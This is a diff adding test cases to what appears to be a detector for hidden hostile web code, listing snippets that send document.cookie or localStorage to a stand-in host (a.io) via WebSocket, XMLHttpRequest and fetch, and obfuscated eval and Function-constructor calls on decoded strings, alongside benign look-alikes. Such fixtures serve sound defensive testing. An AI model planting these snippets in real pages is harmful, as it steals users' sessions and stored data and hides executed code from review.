@@ -105,6 +105,44 @@ export const hiddenOnTheWeb: readonly (readonly [way: string, rule: RuleId, code
     'web-data-sent',
     'fetch("https://a.io", { body: JSON.stringify({ ...localStorage }) })',
   ],
+  [
+    'cookies over a web socket',
+    'web-data-sent',
+    'const w = new WebSocket("wss://a.io/x");\nw.onopen = () => w.send(document.cookie);',
+  ],
+  [
+    'cookies in the address of a web socket',
+    'web-data-sent',
+    'new WebSocket("wss://a.io/?" + document.cookie);',
+  ],
+  [
+    'what is kept by an old request',
+    'web-data-sent',
+    'const x = new XMLHttpRequest();\nx.open("POST", "https://a.io/x");\nx.send(JSON.stringify(localStorage));',
+  ],
+  [
+    'cookies in the address of an old request',
+    'web-data-sent',
+    'x.open("GET", "https://a.io/?c=" + document.cookie);',
+  ],
+  [
+    'cookies to an address in a variable',
+    'web-data-sent',
+    'const u = "https://a.io/";\nfetch(u, { method: "POST", body: document.cookie });',
+  ],
+  ['cookies in parts', 'web-data-sent', 'fetch("https://a.io/?" + document["coo" + "kie"])'],
+  ['eval in parts', 'web-exec-decoded', 'window["ev" + "al"](atob("eA=="))'],
+  [
+    'the constructor of a function by its name',
+    'web-exec-decoded',
+    '[]["constructor"]["constructor"](atob("eA=="))()',
+  ],
+  [
+    'the constructor of a method by its name',
+    'web-exec-decoded',
+    '[]["filter"]["constructor"](atob("eA=="))()',
+  ],
+  ['the constructor of an arrow', 'web-exec-decoded', '(() => {}).constructor(atob("eA=="))()'],
 ];
 
 /** What resembles it, and finds nothing at all. */
@@ -128,6 +166,15 @@ export const innocentOnTheWeb: Readonly<Record<string, string>> = {
     'const r = await fetch("/api");\nconst t = await r.text();\nshow(t);\nsetTimeout(f, 1);',
   'an element of an address':
     'const u = "https://a.io/a.png";\nconst s = document.createElement("img");\ns.src = u;',
+  'a web socket of the host':
+    'const w = new WebSocket(`ws://${location.host}/ws`);\nw.send(JSON.stringify({ a: 1 }));\ndocument.cookie.split(";");',
+  'a web socket beside what is kept':
+    'const w = new WebSocket("wss://a.io/x");\nw.send("hello");\nconst all = JSON.stringify(localStorage);',
+  'an old request to the host with a cookie':
+    'const x = new XMLHttpRequest();\nx.open("GET", "https://a.io/x");\nx.send();\nconst y = new XMLHttpRequest();\ny.open("GET", "/api");\ny.send(document.cookie);',
+  'an object of the same class':
+    'const b = new this.constructor(atob(x));\nconst n = b["constructor"]["name"];',
+  'a text in parts': 'const t = "ev" + "ent";\nlabel(t + atob(x));',
 };
 
 /** The same in the prose of a page. */
